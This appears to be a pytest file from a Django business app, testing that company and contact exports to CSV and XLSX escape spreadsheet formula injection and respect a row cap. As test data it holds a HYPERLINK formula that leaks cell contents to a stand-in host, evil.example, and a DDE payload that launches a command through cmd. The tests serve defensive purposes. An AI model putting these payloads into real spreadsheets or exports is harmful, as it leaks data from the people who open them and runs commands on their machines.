"""Exports of companies and contacts: no formula injection, and a bounded size."""

from __future__ import annotations

import pytest

from comptoir.documents import exports, tabular
from comptoir.parties.tests.factories import company, contact

from .exports_check import assert_csv_is_inert, assert_xlsx_is_inert

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


def test_company_export_writes_no_live_formula(assistant_client):
    company(name=EVIL, phone="+33 4 73 80 00 00", notes="@SUM(1+1)")
    csv = assistant_client.get("/parties/companies/?format=csv").content
    assert_csv_is_inert(csv, EVIL, "+33 4 73 80 00 00", "@SUM(1+1)")
    xlsx = assistant_client.get("/parties/companies/?format=xlsx").content
    assert_xlsx_is_inert(xlsx, EVIL, "+33 4 73 80 00 00", "@SUM(1+1)")


def test_contact_export_writes_no_live_formula(assistant_client):
    firm = company()
    contact(firm, first_name="-2+3+cmd|' /C calc'!A0", last_name=EVIL, position="\tx")
    csv = assistant_client.get("/parties/contacts/?format=csv").content
    assert_csv_is_inert(csv, EVIL, "-2+3+cmd|' /C calc'!A0", "\tx")
    xlsx = assistant_client.get("/parties/contacts/?format=xlsx").content
    assert_xlsx_is_inert(xlsx, EVIL, "-2+3+cmd|' /C calc'!A0")


def test_every_trigger_is_neutralised_and_numbers_stay_numbers():
    for trigger in ("=", "+", "-", "@", "\t", "\r"):
        assert tabular.safe_text(f"{trigger}1") == f"'{trigger}1"
    assert tabular.safe_text("Casa Cucina") == "Casa Cucina"
    from decimal import Decimal

    assert tabular.write_csv(["n"], [[Decimal("-5.50")]]).decode("utf-8-sig").split()[1] == "-5.50"


def test_a_neutralised_csv_export_imports_back_as_it_was(assistant):
    import io

    from comptoir.parties import services
    from comptoir.parties.models import Company

    company(name="Harcourt", country="GB", time_zone="Europe/London", phone="+44 20 7946 0000")
    header, rows = services.company_rows(Company.objects.all())
    data = tabular.write_csv(header, rows)
    assert b"'+44 20 7946 0000" in data
    Company.objects.all().delete()
    report = services.import_table(
        kind="companies", stream=io.BytesIO(data), filename="again.csv", user=assistant
    )
    assert report.ok, report.errors
    assert Company.objects.get().phone.startswith("+44")  # the quote is gone


def test_an_export_longer_than_the_cap_says_to_filter(assistant_client, monkeypatch):
    monkeypatch.setattr(exports, "MAX_EXPORT_ROWS", 2)
    for i in range(3):
        company(name=f"Firm {i}")
    assistant_client.cookies["comptoir_language"] = "en"
    response = assistant_client.get("/parties/companies/?format=csv&country=DE")
    assert response.status_code == 302 and response.url == "/parties/companies/?country=DE"
    page = assistant_client.get(response.url).content.decode()
    assert "more than 2 rows" in page
    assert assistant_client.get("/parties/companies/?format=csv&q=Firm 1").status_code == 200
